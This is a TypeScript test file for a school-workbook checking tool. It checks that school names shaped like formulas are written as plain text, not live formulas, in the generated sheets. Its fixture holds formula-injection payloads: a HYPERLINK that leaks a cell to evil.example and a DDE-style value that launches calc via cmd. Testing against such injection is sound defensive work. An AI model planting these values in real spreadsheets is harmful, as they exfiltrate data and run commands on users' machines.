import { Workbook } from 'exceljs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeFgisBook } from './books';
import { runCli, tempDir } from './run-cli';

const HOSTILE = [
  { name: '=HYPERLINK("http://evil.example/?leak="&A1,"СОШ № 3")', inn: '3625010300', teachers: 20, registered: 15 },
  { name: '+7 999 123-45-67 МБОУ «СОШ № 5»', inn: '3625010500', teachers: 25, registered: 20 },
  { name: '@SUM(1+1)*cmd|" /C calc"!A0', inn: '3625010600', teachers: 18, registered: 'н/д' },
];

describe('formula injection: text from the workbook stays text in the sheets we write', () => {
  it('writes school names that look like formulas as strings in «Сводка», «Нарушения» and «Реестр писем»', async () => {
    const dir = tempDir();
    const book = await writeFgisBook(dir, 'hostile.xlsx', HOSTILE);
    const out = tempDir();
    expect((await runCli(['check', book, '--out', out, '--letters', 'docx'])).code).toBe(0);
    const wb = new Workbook();
    await wb.xlsx.load(readFileSync(join(out, 'hostile.checked.xlsx')) as never);

    for (const sheet of ['Сводка', 'Нарушения', 'Реестр писем']) {
      const found: { value: unknown; formula: unknown }[] = [];
      wb.getWorksheet(sheet)!.eachRow((row) =>
        row.eachCell((cell) => {
          if (HOSTILE.some((h) => cell.text === h.name)) found.push({ value: cell.value, formula: cell.formula });
        }),
      );
      expect(found.length).toBeGreaterThanOrEqual(sheet === 'Сводка' ? 3 : 2);
      for (const f of found) {
        expect(typeof f.value).toBe('string');
        expect(f.formula).toBeUndefined();
      }
    }
    // Our only formulas are links whose targets and labels cannot break out of their quotes.
    const formulas: string[] = [];
    wb.getWorksheet('Нарушения')!.eachRow((row) => row.eachCell((cell) => cell.formula && formulas.push(cell.formula)));
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(f).toMatch(/^HYPERLINK\("#'ФГИС МШ'![A-Z]+\d+","ФГИС МШ![A-Z]+\d+"\)$/);
  });
});
